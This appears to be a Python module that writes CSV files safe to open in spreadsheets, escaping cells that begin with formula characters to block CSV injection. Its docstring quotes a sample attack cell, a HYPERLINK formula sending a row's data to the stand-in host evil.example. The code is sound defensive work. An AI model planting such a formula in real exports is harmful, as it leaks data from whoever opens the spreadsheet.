"""CSV that is safe to open in a spreadsheet: the one way this app writes CSV.

Why: guests and users choose their own names, and tutors name their services. A cell
such as `=HYPERLINK("http://evil.example/?g="&B2,"guest")` is a formula to Excel,
LibreOffice and Google Sheets: opened by an admin it can send the row's data away or,
with DDE, run commands (OWASP "CSV Injection"). Every CSV the app produces goes through
`csv_bytes()` (the admin export included), so no cell reaches a spreadsheet as a formula.

`safe_cell()` follows OWASP: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return (also after leading whitespace, which spreadsheets skip) gets a leading
`'`, which spreadsheets show as text and do not evaluate. Plain numbers (`-5`, `12.50`)
are left alone: a number is never a formula, and negative Telegram chat ids stay readable.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_LEADING_BLANKS = " \t\r\n\x0b\x0c"


def safe_cell(value: object) -> object:
    """The value to write into a CSV cell; text that a spreadsheet would evaluate is
    prefixed with `'` (see the module docstring). None becomes an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if not text or _NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_PREFIXES) or text.lstrip(_LEADING_BLANKS).startswith(
        FORMULA_PREFIXES
    ):
        return NEUTRALISER + text
    return text


def csv_bytes(header: Iterable[object], rows: Iterable[Iterable[object]]) -> bytes:
    """UTF-8 CSV (RFC 4180 quoting by the csv module) with every cell through safe_cell()."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue().encode("utf-8")
